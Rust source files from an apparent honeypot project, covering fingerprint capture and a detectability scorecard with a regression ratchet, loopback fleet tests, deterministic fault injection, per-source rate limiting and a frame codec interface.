    if let resp::RespValue::Array(fields) = f.read_frame().await?.ok_or("no HELLO reply")? {
        let mut it = fields.iter();
        while let (Some(key), Some(value)) = (it.next(), it.next()) {
            let key = match key.as_text() {
                Some(key) => key,
                None => continue,
            };
            let value = match value {
                resp::RespValue::Integer(i) => i.to_string(),
                other => other.as_text().unwrap_or_default(),
            };
            s.push_fact(&key, value);
        }
    }
    f.write_frame(&resp::RespValue::command(&["INFO", "server"]))
        .await?;
    if let Some(text) = f.read_frame().await?.ok_or("no INFO reply")?.as_text() {
        s.banner = text;
    }
    f.write_frame(&resp::RespValue::command(&["FINGERPRINTPROBE", "arg"]))
        .await?;
    if let resp::RespValue::Error(message) = f.read_frame().await?.ok_or("no error reply")? {
        s.error_unknown = message;
    }
    for _ in 0..samples {
        let t0 = Instant::now();
        f.write_frame(&resp::RespValue::command(&["PING"])).await?;
        f.read_frame().await?.ok_or("no PING reply")?;
        s.timing_us.push(t0.elapsed().as_micros() as u64);
    }
    Ok(s)
}

async fn capture_http(
    family: &str,
    banner_facts: fn(&serde_json::Value, &mut Surface),
    missing_path: &str,
    addr: SocketAddr,
    samples: usize,
) -> Result<Surface, Fail> {
    let mut s = Surface::named(family);
    let mut f = Framed::new(dial(addr).await?, http::HttpClientCodec);
    f.write_frame(&http::HttpRequest::new("GET", "/")).await?;
    let root = f.read_frame().await?.ok_or("no banner reply")?;
    s.banner = root.body_text();
    if let Ok(value) = serde_json::from_str::<serde_json::Value>(&s.banner) {
        banner_facts(&value, &mut s);
    }
    f.write_frame(&http::HttpRequest::new("GET", missing_path))
        .await?;
    let missing = f.read_frame().await?.ok_or("no 404 reply")?;
    s.error_unknown = missing.body_text();
    for _ in 0..samples {
        let t0 = Instant::now();
        f.write_frame(&http::HttpRequest::new("GET", "/")).await?;
        f.read_frame().await?.ok_or("no timing reply")?;
        s.timing_us.push(t0.elapsed().as_micros() as u64);
    }
    Ok(s)
}

/// Elasticsearch: root document facts, a missing-index 404, then
/// banner round trips.
async fn capture_elastic(addr: SocketAddr, samples: usize) -> Result<Surface, Fail> {
    capture_http(
        "elastic",
        |value, s| {
            let version = value.get("version");
            if let Some(number) = version.and_then(|v| v.get("number")).and_then(|v| v.as_str()) {
                s.push_fact("version", number);
            }
            if let Some(lucene) = version
                .and_then(|v| v.get("lucene_version"))
                .and_then(|v| v.as_str())
            {
                s.push_fact("lucene_version", lucene);
            }
        },
        "/fingerprint_probe_missing",
        addr,
        samples,
    )
    .await
}

/// CouchDB: welcome document facts, a missing-database 404, then
/// banner round trips.
async fn capture_couchdb(addr: SocketAddr, samples: usize) -> Result<Surface, Fail> {
    capture_http(
        "couchdb",
        |value, s| {
            if let Some(version) = value.get("version").and_then(|v| v.as_str()) {
                s.push_fact("version", version);
            }
            if let Some(sha) = value.get("git_sha").and_then(|v| v.as_str()) {
                s.push_fact("git_sha", sha);
            }
        },
        "/fingerprint_probe_missing_db",
        addr,
        samples,
    )
    .await
}
