//! The detectability scorecard and its write-baseline ratchet.
//!
//! A [`Scorecard`] folds probe findings into one weighted score per
//! honeypot family. The committed `FINGERPRINT_BASELINE.json` at the
//! workspace root records the fleet's current scores, and
//! [`Scorecard::ratchet`] enforces the same one-way discipline as the
//! hot-path allocation baseline: a rewrite that would *worsen* any
//! family's score is refused, so detectability regressions cannot be
//! silently re-baselined away.
//!
//! The JSON render/parse here is deliberately hand-rolled and
//! line-based (the same idiom `decoy-xtask` uses for the bench
//! manifests) so the module stays `std`-only.

use std::fmt::Write as _;

use crate::probes::{ProbeFinding, FAMILIES};

/// Weighted detectability score per honeypot family. Lower is better;
/// zero means the probe battery found no tells.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Scorecard {
    entries: Vec<(String, u32)>,
}

impl Scorecard {
    /// Fold findings into per-family scores. Every family in
    /// [`FAMILIES`] gets an entry (zero when clean), so a scorecard
    /// always covers the whole fleet.
    pub fn tally(findings: &[ProbeFinding]) -> Scorecard {
        let mut entries: Vec<(String, u32)> =
            FAMILIES.iter().map(|f| (f.to_string(), 0)).collect();
        for f in findings {
            if let Some(entry) = entries.iter_mut().find(|(name, _)| *name == f.family) {
                entry.1 += f.weight;
            } else {
                entries.push((f.family.clone(), f.weight));
            }
        }
        entries.sort();
        Scorecard { entries }
    }

    /// The per-family scores, sorted by family name.
    pub fn entries(&self) -> &[(String, u32)] {
        &self.entries
    }

    /// The score for one family, if present.
    pub fn get(&self, family: &str) -> Option<u32> {
        self.entries
            .iter()
            .find(|(name, _)| name == family)
            .map(|(_, score)| *score)
    }

    /// Sum of all family scores.
    pub fn total(&self) -> u32 {
        self.entries.iter().map(|(_, score)| score).sum()
    }

    /// Render the scorecard as the `FINGERPRINT_BASELINE.json` document.
    pub fn render_json(&self) -> String {
        let mut out = String::new();
        out.push_str("{\n");
        out.push_str(
            "  \"comment\": \"Detectability scorecard: weighted fingerprinting score per honeypot family (lower is better, 0 = no tells). Maintained by `fingerprint_scorecard --write-baseline`; the ratchet refuses regressions.\",\n",
        );
        out.push_str("  \"scores\": {\n");
        let last = self.entries.len().saturating_sub(1);
        for (i, (family, score)) in self.entries.iter().enumerate() {
            let comma = if i == last { "" } else { "," };
            let _ = writeln!(out, "    \"{family}\": {score}{comma}");
        }
        out.push_str("  },\n");
        let _ = writeln!(out, "  \"total\": {}", self.total());
        out.push_str("}\n");
        out
    }

    /// Parse a `FINGERPRINT_BASELINE.json` document produced by
    /// [`Scorecard::render_json`]. Line-based and tolerant of
    /// whitespace; returns `None` when no per-family scores are found.
    pub fn parse_json(src: &str) -> Option<Scorecard> {
        let mut entries = Vec::new();
        for line in src.lines() {
            let line = line.trim().trim_end_matches(',');
            let rest = match line.strip_prefix('"') {
                Some(rest) => rest,
                None => continue,
            };
            let (key, rest) = match rest.split_once('"') {
                Some(parts) => parts,
                None => continue,
            };
            let value = rest.trim_start_matches(':').trim();
            if key == "total" || key == "comment" {
                continue;
            }
            if let Ok(score) = value.parse::<u32>() {
                entries.push((key.to_string(), score));
            }
        }
        if entries.is_empty() {
            return None;
        }
        entries.sort();
        Some(Scorecard { entries })
    }

    /// The write-baseline ratchet: refuse to replace `baseline` with
    /// `fresh` if any family's score would grow. Families absent from
    /// the baseline are new and start their own budget.
    pub fn ratchet(baseline: &Scorecard, fresh: &Scorecard) -> Result<(), String> {
        for (family, now) in &fresh.entries {
            let was = match baseline.get(family) {
                Some(was) => was,
                None => continue,
            };
            if *now > was {
                return Err(format!(
                    "refusing to write baseline: the detectability score for {family} would grow from {was} to {now}; burn the new probe findings down (see the fingerprint report) instead of re-baselining them"
                ));
            }
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn hit(family: &str, weight: u32) -> ProbeFinding {
        ProbeFinding {
            family: family.to_string(),
            probe: "error",
            weight,
            detail: String::new(),
        }
    }

    #[test]
    fn tally_covers_every_family_and_sums_weights() {
        let card = Scorecard::tally(&[hit("redis", 3), hit("redis", 2), hit("mysql", 4)]);
        assert_eq!(card.entries().len(), FAMILIES.len());
        assert_eq!(card.get("redis"), Some(5));
        assert_eq!(card.get("mysql"), Some(4));
        assert_eq!(card.get("couchdb"), Some(0));
        assert_eq!(card.total(), 9);
    }

    #[test]
    fn render_and_parse_round_trip() {
        let card = Scorecard::tally(&[hit("postgres", 6), hit("elastic", 9)]);
        let parsed = Scorecard::parse_json(&card.render_json()).unwrap();
        assert_eq!(parsed, card);
    }

    #[test]
    fn parse_rejects_documents_without_scores() {
        assert!(Scorecard::parse_json("{\n  \"total\": 3\n}\n").is_none());
    }

    #[test]
    fn ratchet_refuses_a_worsened_score() {
        let baseline = Scorecard::tally(&[hit("redis", 2)]);
        let worse = Scorecard::tally(&[hit("redis", 5)]);
        let err = Scorecard::ratchet(&baseline, &worse).unwrap_err();
        assert!(err.contains("refusing to write baseline"), "{err}");
        assert!(err.contains("from 2 to 5"), "{err}");
    }

    #[test]
    fn ratchet_accepts_improvements_and_new_families() {
        let baseline = Scorecard::tally(&[hit("redis", 5)]);
        let better = Scorecard::tally(&[hit("redis", 2), hit("tarantool", 9)]);
        assert!(Scorecard::ratchet(&baseline, &better).is_ok());
    }
}
