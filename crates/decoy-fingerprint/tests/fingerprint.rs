//! Live-fleet fingerprinting integration: the probe engine drives real
//! loopback listeners and the hardened, latency-shaped fleet must score
//! zero — matching the committed `FINGERPRINT_BASELINE.json`.

use decoy_fingerprint::{evaluate, fingerprint_fleet, EngineOptions, Scorecard};
use decoy_net::latency::{LatencyProfile, LatencyShaper};
use decoy_net::server::ListenerOptions;
use decoy_net::time::Clock;

#[tokio::test(flavor = "multi_thread")]
async fn shaped_fleet_scores_zero_and_matches_the_baseline() {
    let options = EngineOptions {
        listener: ListenerOptions {
            clock: Clock::Wall,
            latency: Some(LatencyShaper::new(11, LatencyProfile::lan())),
            ..ListenerOptions::default()
        },
        ..EngineOptions::default()
    };
    let surfaces = fingerprint_fleet(&options).await.expect("probe the fleet");
    assert_eq!(surfaces.len(), 6);
    let (findings, card) = evaluate(&surfaces);
    assert!(findings.is_empty(), "live fleet leaked tells: {findings:?}");
    for (family, score) in card.entries() {
        assert_eq!(*score, 0, "{family} scored {score}");
    }

    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../FINGERPRINT_BASELINE.json");
    let committed = std::fs::read_to_string(path).expect("read FINGERPRINT_BASELINE.json");
    let baseline = Scorecard::parse_json(&committed).expect("parse the committed baseline");
    assert_eq!(baseline, card, "committed baseline is out of date");
    Scorecard::ratchet(&baseline, &card).expect("fresh scores regressed past the baseline");
}

#[tokio::test(flavor = "multi_thread")]
async fn unshaped_engine_still_captures_coherent_surfaces() {
    // On the simulated clock with no shaper the timing stage will fire
    // (that is the point of the shaper); every *content* stage must
    // still be clean, and every surface fully captured.
    let options = EngineOptions {
        listener: ListenerOptions {
            clock: Clock::simulated(),
            ..ListenerOptions::default()
        },
        ..EngineOptions::default()
    };
    let surfaces = fingerprint_fleet(&options).await.expect("probe the fleet");
    assert_eq!(surfaces.len(), 6);
    for s in &surfaces {
        assert!(!s.banner.is_empty(), "{}: no banner", s.family);
        assert!(!s.facts.is_empty(), "{}: no facts", s.family);
        assert!(
            !s.error_unknown.is_empty() || !s.error_syntax.is_empty(),
            "{}: no error text captured",
            s.family
        );
    }
    let (findings, _) = evaluate(&surfaces);
    let content: Vec<_> = findings.iter().filter(|f| f.probe != "timing").collect();
    assert!(content.is_empty(), "content tells on a live fleet: {content:?}");
}
