//! Deterministic fault injection for resilience testing.
//!
//! A seeded [`FaultPlan`] decides — as a pure function of stable identifiers
//! (the listener's fault key and the per-listener session sequence) — which
//! faults strike which sessions. Because no shared counters or wall-clock
//! reads participate, the same seed always yields the same fault schedule no
//! matter how tasks interleave: the chaos replay in `tests/chaos.rs` is
//! reproducible.
//!
//! Three layers consume the plan:
//!
//! * the accept loop in [`crate::server::Listener`] calls
//!   [`FaultPlan::at_accept`] and either refuses the connection or crashes
//!   the whole accept task (exercising the supervisor's restart path);
//! * every delivered session gets its [`SessionFaults`] applied by a
//!   [`ChaosStream`] wrapped under the session's
//!   [`crate::server::SessionStream`]: a stall before the first read,
//!   1-byte partial reads/writes, and a mid-stream connection reset;
//! * `decoy-store` installs [`FaultPlan::drops_append`] as an event-store
//!   fault hook so log-pipeline loss is injectable too.

use std::future::Future;
use std::io;
use std::pin::Pin;
use std::task::{ready, Context, Poll};
use std::time::Duration;
use tokio::io::{AsyncRead, AsyncWrite, ReadBuf};
use tokio::time::Sleep;

/// splitmix64 finalizer: a cheap, well-mixed 64-bit hash.
fn mix(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ (x >> 31)
}

/// A deterministic per-mille roll in `0..1000` derived from
/// `(seed, key, seq, salt)`. Pure: same inputs, same roll.
pub(crate) fn per_mille(seed: u64, key: u64, seq: u64, salt: u64) -> u64 {
    mix(mix(mix(seed ^ salt) ^ key) ^ seq) % 1000
}

// Distinct salts keep the individual fault decisions independent.
const SALT_REFUSE: u64 = 0xA1;
const SALT_CRASH: u64 = 0xA2;
const SALT_RESET: u64 = 0xA3;
const SALT_STALL: u64 = 0xA4;
const SALT_PARTIAL: u64 = 0xA5;
const SALT_STORE: u64 = 0xA6;

/// What the accept loop should do with one accepted connection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AcceptFault {
    /// Hand the connection to the session handler (possibly with
    /// [`SessionFaults`]).
    Deliver,
    /// Drop the connection at accept, as an overloaded or flaky host would.
    Refuse,
    /// Kill the whole accept task: the supervisor must notice and restart.
    CrashListener,
}

/// Faults applied to one delivered session's byte stream.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct SessionFaults {
    /// Degrade the transport to 1-byte reads and writes.
    pub partial_io: bool,
    /// Stall this long before the first read completes.
    pub stall: Option<Duration>,
    /// Inject a connection reset after this many transferred bytes.
    pub reset_after: Option<u64>,
}

impl SessionFaults {
    /// True when no fault is active and the stream can run unwrapped.
    pub fn is_noop(&self) -> bool {
        *self == SessionFaults::default()
    }
}

/// A seeded, pure-function fault schedule.
///
/// Rates are expressed per mille (`0..=1000`) of sessions/appends affected.
/// All decision methods are pure functions of their arguments plus the
/// seed, so a plan can be cloned freely across listeners and tasks without
/// perturbing the schedule.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FaultPlan {
    /// Seed every decision derives from.
    pub seed: u64,
    /// ‰ of accepted connections refused at accept.
    pub refuse_per_mille: u64,
    /// ‰ of accepts that crash the accept task.
    pub crash_per_mille: u64,
    /// ‰ of delivered sessions that reset mid-stream.
    pub reset_per_mille: u64,
    /// ‰ of delivered sessions stalled before their first read.
    pub stall_per_mille: u64,
    /// ‰ of delivered sessions degraded to 1-byte I/O.
    pub partial_per_mille: u64,
    /// ‰ of event-store appends dropped.
    pub store_drop_per_mille: u64,
    /// How long a stalled session waits.
    pub stall_for: Duration,
    /// Bytes a resetting session transfers before the injected reset.
    pub reset_after_bytes: u64,
}

impl FaultPlan {
    /// A plan with every rate at zero (no faults) under `seed`.
    pub fn new(seed: u64) -> Self {
        FaultPlan {
            seed,
            refuse_per_mille: 0,
            crash_per_mille: 0,
            reset_per_mille: 0,
            stall_per_mille: 0,
            partial_per_mille: 0,
            store_drop_per_mille: 0,
            stall_for: Duration::from_millis(50),
            reset_after_bytes: 64,
        }
    }

    /// A mild all-fault mix suitable for smoke replays: every fault class is
    /// exercised while keeping expected session loss well under 10%.
    pub fn mild(seed: u64) -> Self {
        FaultPlan {
            refuse_per_mille: 8,
            crash_per_mille: 20,
            reset_per_mille: 15,
            stall_per_mille: 25,
            partial_per_mille: 40,
            store_drop_per_mille: 5,
            ..FaultPlan::new(seed)
        }
    }

    /// Accept-time decision for session `seq` on the listener with fault
    /// key `key`. Crash is checked before refuse so a crash-heavy plan is
    /// not masked by its refuse rate.
    pub fn at_accept(&self, key: u64, seq: u64) -> AcceptFault {
        if per_mille(self.seed, key, seq, SALT_CRASH) < self.crash_per_mille {
            AcceptFault::CrashListener
        } else if per_mille(self.seed, key, seq, SALT_REFUSE) < self.refuse_per_mille {
            AcceptFault::Refuse
        } else {
            AcceptFault::Deliver
        }
    }

    /// Stream faults for delivered session `seq` on listener `key`.
    pub fn for_session(&self, key: u64, seq: u64) -> SessionFaults {
        SessionFaults {
            partial_io: per_mille(self.seed, key, seq, SALT_PARTIAL) < self.partial_per_mille,
            stall: (per_mille(self.seed, key, seq, SALT_STALL) < self.stall_per_mille)
                .then_some(self.stall_for),
            reset_after: (per_mille(self.seed, key, seq, SALT_RESET) < self.reset_per_mille)
                .then_some(self.reset_after_bytes),
        }
    }

    /// Whether the `n`-th event-store append should be dropped.
    pub fn drops_append(&self, n: u64) -> bool {
        per_mille(self.seed, 0, n, SALT_STORE) < self.store_drop_per_mille
    }
}

/// An `AsyncRead + AsyncWrite` wrapper applying one session's
/// [`SessionFaults`] to the underlying transport.
#[derive(Debug)]
pub struct ChaosStream<S> {
    inner: S,
    faults: SessionFaults,
    /// Armed lazily on the first read when a stall fault is active.
    stall: Option<Pin<Box<Sleep>>>,
    stalled: bool,
    /// Bytes transferred in either direction, for the reset fault.
    transferred: u64,
}

impl<S> ChaosStream<S> {
    /// Wrap `inner` with `faults`.
    pub fn new(inner: S, faults: SessionFaults) -> Self {
        ChaosStream {
            inner,
            faults,
            stall: None,
            stalled: false,
            transferred: 0,
        }
    }

    fn reset_tripped(&self) -> bool {
        self.faults
            .reset_after
            .is_some_and(|limit| self.transferred >= limit)
    }

    fn injected_reset() -> io::Error {
        io::Error::new(io::ErrorKind::ConnectionReset, "chaos: injected reset")
    }
}

impl<S: AsyncRead + Unpin> AsyncRead for ChaosStream<S> {
    fn poll_read(
        self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &mut ReadBuf<'_>,
    ) -> Poll<io::Result<()>> {
        let this = self.get_mut();
        if !this.stalled {
            if let Some(wait) = this.faults.stall {
                let sleep = this
                    .stall
                    .get_or_insert_with(|| Box::pin(tokio::time::sleep(wait)));
                ready!(sleep.as_mut().poll(cx));
                this.stalled = true;
                this.stall = None;
            } else {
                this.stalled = true;
            }
        }
        if this.reset_tripped() {
            return Poll::Ready(Err(Self::injected_reset()));
        }
        if this.faults.partial_io {
            // One byte at a time through a bounce buffer; the copy is
            // irrelevant at chaos-test volumes.
            let mut byte = [0u8; 1];
            let mut one = ReadBuf::new(&mut byte);
            ready!(Pin::new(&mut this.inner).poll_read(cx, &mut one))?;
            buf.put_slice(one.filled());
            this.transferred = this.transferred.saturating_add(one.filled().len() as u64);
            Poll::Ready(Ok(()))
        } else {
            let before = buf.filled().len();
            let res = Pin::new(&mut this.inner).poll_read(cx, buf);
            if let Poll::Ready(Ok(())) = res {
                let n = buf.filled().len().saturating_sub(before);
                this.transferred = this.transferred.saturating_add(n as u64);
            }
            res
        }
    }
}

impl<S: AsyncWrite + Unpin> AsyncWrite for ChaosStream<S> {
    fn poll_write(
        self: Pin<&mut Self>,
        cx: &mut Context<'_>,
        buf: &[u8],
    ) -> Poll<io::Result<usize>> {
        let this = self.get_mut();
        if this.reset_tripped() {
            return Poll::Ready(Err(Self::injected_reset()));
        }
        let cut = if this.faults.partial_io {
            buf.get(..1.min(buf.len())).unwrap_or(buf)
        } else {
            buf
        };
        let n = ready!(Pin::new(&mut this.inner).poll_write(cx, cut))?;
        this.transferred = this.transferred.saturating_add(n as u64);
        Poll::Ready(Ok(n))
    }

    fn poll_flush(self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<io::Result<()>> {
        Pin::new(&mut self.get_mut().inner).poll_flush(cx)
    }

    fn poll_shutdown(self: Pin<&mut Self>, cx: &mut Context<'_>) -> Poll<io::Result<()>> {
        Pin::new(&mut self.get_mut().inner).poll_shutdown(cx)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    #[test]
    fn decisions_are_pure_and_seed_dependent() {
        let a = FaultPlan::mild(42);
        let b = FaultPlan::mild(42);
        let c = FaultPlan::mild(43);
        let mut diverged = false;
        for key in [1u64, 7, 99] {
            for seq in 0..500u64 {
                assert_eq!(a.at_accept(key, seq), b.at_accept(key, seq));
                assert_eq!(a.for_session(key, seq), b.for_session(key, seq));
                assert_eq!(a.drops_append(seq), b.drops_append(seq));
                if a.at_accept(key, seq) != c.at_accept(key, seq)
                    || a.for_session(key, seq) != c.for_session(key, seq)
                {
                    diverged = true;
                }
            }
        }
        assert!(diverged, "different seeds produced identical schedules");
    }

    #[test]
    fn rates_are_roughly_honored() {
        let plan = FaultPlan {
            crash_per_mille: 100,
            refuse_per_mille: 100,
            store_drop_per_mille: 100,
            ..FaultPlan::new(7)
        };
        let n = 20_000u64;
        let crashes = (0..n)
            .filter(|&s| plan.at_accept(3, s) == AcceptFault::CrashListener)
            .count();
        let drops = (0..n).filter(|&s| plan.drops_append(s)).count();
        // 10% ± 2% over 20k draws
        for observed in [crashes, drops] {
            assert!((1600..=2400).contains(&observed), "observed {observed}");
        }
    }

    #[test]
    fn zero_rate_plan_is_silent() {
        let plan = FaultPlan::new(1);
        for seq in 0..2000 {
            assert_eq!(plan.at_accept(9, seq), AcceptFault::Deliver);
            assert!(plan.for_session(9, seq).is_noop());
            assert!(!plan.drops_append(seq));
        }
    }

    #[tokio::test]
    async fn partial_io_degrades_to_single_bytes() {
        let (client, server) = tokio::io::duplex(1024);
        let faults = SessionFaults {
            partial_io: true,
            ..SessionFaults::default()
        };
        let mut chaotic = ChaosStream::new(server, faults);
        let mut client = client;
        client.write_all(b"hello").await.unwrap();
        let mut buf = [0u8; 16];
        let n = chaotic.read(&mut buf).await.unwrap();
        assert_eq!(n, 1, "partial read must deliver one byte");
        let written = chaotic.write(b"world").await.unwrap();
        assert_eq!(written, 1, "partial write must accept one byte");
    }

    #[tokio::test]
    async fn reset_fault_trips_after_budget() {
        let (client, server) = tokio::io::duplex(1024);
        let faults = SessionFaults {
            reset_after: Some(4),
            ..SessionFaults::default()
        };
        let mut chaotic = ChaosStream::new(server, faults);
        let mut client = client;
        client.write_all(b"abcdefgh").await.unwrap();
        let mut buf = [0u8; 8];
        chaotic.read_exact(&mut buf[..4]).await.unwrap();
        let err = chaotic.read(&mut buf).await.unwrap_err();
        assert_eq!(err.kind(), io::ErrorKind::ConnectionReset);
    }

    #[tokio::test(start_paused = true)]
    async fn stall_delays_first_read_only() {
        let (client, server) = tokio::io::duplex(1024);
        let faults = SessionFaults {
            stall: Some(Duration::from_millis(500)),
            ..SessionFaults::default()
        };
        let mut chaotic = ChaosStream::new(server, faults);
        let mut client = client;
        client.write_all(b"xy").await.unwrap();
        let start = tokio::time::Instant::now();
        let mut buf = [0u8; 1];
        chaotic.read_exact(&mut buf).await.unwrap();
        assert!(start.elapsed() >= Duration::from_millis(500));
        let again = tokio::time::Instant::now();
        chaotic.read_exact(&mut buf).await.unwrap();
        assert!(again.elapsed() < Duration::from_millis(500));
    }
}
