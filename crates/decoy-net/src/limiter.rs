//! Per-source rate limiting and connection admission.
//!
//! Honeypots deliberately accept hostile traffic, but the replay harness can
//! drive tens of thousands of sessions per second at a single listener; the
//! [`ConnectionGate`] bounds concurrent sessions and the [`RateLimiter`]
//! bounds per-source connection rates the way a production deployment would.

use crate::time::Timestamp;
use parking_lot::Mutex;
use std::collections::HashMap;
use std::net::IpAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

/// Token-bucket rate limiter keyed by source IP.
///
/// Buckets refill continuously at `rate_per_sec` up to `burst`. Time is
/// supplied by the caller so the limiter works identically under wall and
/// simulated clocks.
#[derive(Debug)]
pub struct RateLimiter {
    rate_per_sec: f64,
    burst: f64,
    buckets: Mutex<HashMap<IpAddr, Bucket>>,
}

#[derive(Debug, Clone, Copy)]
struct Bucket {
    tokens: f64,
    last: Timestamp,
}

impl RateLimiter {
    /// A limiter allowing `rate_per_sec` sustained and `burst` instantaneous
    /// admissions per source IP.
    pub fn new(rate_per_sec: f64, burst: u32) -> Self {
        // Constructor misconfiguration is operator error at deploy time, not
        // attacker input; failing fast here can never be reached by peer
        // bytes. Locks below are parking_lot and cannot poison.
        // decoy-lint: allow(panic) -- deploy-time config invariant, not on the byte path
        assert!(rate_per_sec > 0.0, "rate must be positive");
        // decoy-lint: allow(panic) -- deploy-time config invariant, not on the byte path
        assert!(burst >= 1, "burst must admit at least one");
        RateLimiter {
            rate_per_sec,
            burst: burst as f64,
            buckets: Mutex::new(HashMap::new()),
        }
    }

    /// An effectively unlimited limiter (used by experiments that model
    /// volume explicitly in the agent layer).
    pub fn unlimited() -> Self {
        RateLimiter::new(1e12, u32::MAX)
    }

    /// Try to admit one event from `ip` at time `now`.
    pub fn admit(&self, ip: IpAddr, now: Timestamp) -> bool {
        let mut buckets = self.buckets.lock();
        let bucket = buckets.entry(ip).or_insert(Bucket {
            tokens: self.burst,
            last: now,
        });
        let elapsed_s = now.millis_since(bucket.last) as f64 / 1000.0;
        bucket.tokens = (bucket.tokens + elapsed_s * self.rate_per_sec).min(self.burst);
        bucket.last = if now > bucket.last { now } else { bucket.last };
        if bucket.tokens >= 1.0 {
            bucket.tokens -= 1.0;
            true
        } else {
            false
        }
    }

    /// Drop state for sources idle since before `cutoff` (housekeeping).
    pub fn evict_idle(&self, cutoff: Timestamp) {
        self.buckets.lock().retain(|_, b| b.last >= cutoff);
    }

    /// Number of sources currently tracked.
    pub fn tracked_sources(&self) -> usize {
        self.buckets.lock().len()
    }
}

/// Bounds the number of concurrently active sessions on a listener.
///
/// Cheap clone-able handle; a [`ConnectionPermit`] releases its slot on drop.
#[derive(Debug, Clone)]
pub struct ConnectionGate {
    inner: Arc<GateInner>,
}

#[derive(Debug)]
struct GateInner {
    active: AtomicUsize,
    limit: usize,
    rejected_total: AtomicUsize,
}

/// RAII permit for one active session.
#[derive(Debug)]
pub struct ConnectionPermit {
    inner: Arc<GateInner>,
}

impl ConnectionGate {
    /// A gate admitting at most `limit` concurrent sessions.
    pub fn new(limit: usize) -> Self {
        // decoy-lint: allow(panic) -- deploy-time config invariant, not on the byte path
        assert!(limit >= 1, "gate must admit at least one session");
        ConnectionGate {
            inner: Arc::new(GateInner {
                active: AtomicUsize::new(0),
                limit,
                rejected_total: AtomicUsize::new(0),
            }),
        }
    }

    /// Try to claim a session slot.
    pub fn try_acquire(&self) -> Option<ConnectionPermit> {
        let mut cur = self.inner.active.load(Ordering::Relaxed);
        loop {
            if cur >= self.inner.limit {
                self.inner.rejected_total.fetch_add(1, Ordering::Relaxed);
                return None;
            }
            match self.inner.active.compare_exchange_weak(
                cur,
                cur + 1,
                Ordering::AcqRel,
                Ordering::Relaxed,
            ) {
                Ok(_) => {
                    return Some(ConnectionPermit {
                        inner: self.inner.clone(),
                    })
                }
                Err(actual) => cur = actual,
            }
        }
    }

    /// Sessions currently holding permits.
    pub fn active(&self) -> usize {
        self.inner.active.load(Ordering::Acquire)
    }

    /// Total connections turned away since creation.
    pub fn rejected_total(&self) -> usize {
        self.inner.rejected_total.load(Ordering::Relaxed)
    }
}

impl Drop for ConnectionPermit {
    fn drop(&mut self) {
        self.inner.active.fetch_sub(1, Ordering::AcqRel);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::time::EXPERIMENT_START;

    fn ip(n: u8) -> IpAddr {
        IpAddr::from([10, 0, 0, n])
    }

    #[test]
    fn rate_limiter_allows_burst_then_blocks() {
        let rl = RateLimiter::new(1.0, 3);
        let t = EXPERIMENT_START;
        assert!(rl.admit(ip(1), t));
        assert!(rl.admit(ip(1), t));
        assert!(rl.admit(ip(1), t));
        assert!(!rl.admit(ip(1), t));
        // another source has its own bucket
        assert!(rl.admit(ip(2), t));
    }

    #[test]
    fn rate_limiter_refills_over_time() {
        let rl = RateLimiter::new(2.0, 2);
        let t = EXPERIMENT_START;
        assert!(rl.admit(ip(1), t));
        assert!(rl.admit(ip(1), t));
        assert!(!rl.admit(ip(1), t));
        // after 500ms at 2 tokens/s one token is back
        let t2 = t.add_millis(500);
        assert!(rl.admit(ip(1), t2));
        assert!(!rl.admit(ip(1), t2));
    }

    #[test]
    fn rate_limiter_caps_at_burst() {
        let rl = RateLimiter::new(100.0, 2);
        let t = EXPERIMENT_START;
        assert!(rl.admit(ip(1), t));
        // a long pause must not bank more than `burst` tokens
        let t2 = t.add_millis(60_000);
        assert!(rl.admit(ip(1), t2));
        assert!(rl.admit(ip(1), t2));
        assert!(!rl.admit(ip(1), t2));
    }

    #[test]
    fn eviction_drops_idle_sources() {
        let rl = RateLimiter::new(1.0, 1);
        let t = EXPERIMENT_START;
        rl.admit(ip(1), t);
        rl.admit(ip(2), t.add_millis(10_000));
        assert_eq!(rl.tracked_sources(), 2);
        rl.evict_idle(t.add_millis(5_000));
        assert_eq!(rl.tracked_sources(), 1);
    }

    #[test]
    fn gate_limits_concurrency_and_counts_rejections() {
        let gate = ConnectionGate::new(2);
        let p1 = gate.try_acquire().unwrap();
        let _p2 = gate.try_acquire().unwrap();
        assert!(gate.try_acquire().is_none());
        assert_eq!(gate.active(), 2);
        assert_eq!(gate.rejected_total(), 1);
        drop(p1);
        assert_eq!(gate.active(), 1);
        assert!(gate.try_acquire().is_some());
    }
}
