//! Incremental frame codecs: the synchronous half of the framing layer.
//!
//! Every wire protocol in `decoy-wire` implements [`Codec`]: decoding consumes
//! bytes from a [`BytesMut`] and either produces a complete frame, asks for
//! more bytes (`Ok(None)`), or reports a protocol violation. This is the
//! framing discipline from the Tokio tutorial, kept separate from I/O so
//! codecs are unit-testable (and fuzzable) without sockets or a runtime.
//! The async side lives in [`crate::framed`].
//!
//! Codecs here parse attacker-controlled bytes, so this module is covered by
//! the `decoy-xtask lint` panic-freedom wall: no `unwrap`/`expect`/`panic!`,
//! no slice indexing, no `as` truncation.

// decoy-hot-path: file -- per-connection framing loop; every inbound byte passes through

use crate::error::{NetError, NetResult};
use bytes::{Bytes, BytesMut};

/// An incremental encoder/decoder for one protocol's frames.
pub trait Codec {
    /// The inbound frame type this side decodes.
    type In;
    /// The outbound frame type this side encodes. Symmetric protocols use
    /// `In == Out`; asymmetric ones (PostgreSQL, HTTP) differ per side.
    type Out;

    /// Try to decode one frame from the front of `buf`.
    ///
    /// * `Ok(Some(frame))` — a frame was decoded and its bytes consumed.
    /// * `Ok(None)` — `buf` holds an incomplete frame; read more bytes.
    /// * `Err(_)` — the bytes can never form a valid frame.
    ///
    /// Implementations must not consume bytes when returning `Ok(None)`,
    /// and must be *total*: any byte sequence yields `Ok` or `Err`, never
    /// a panic.
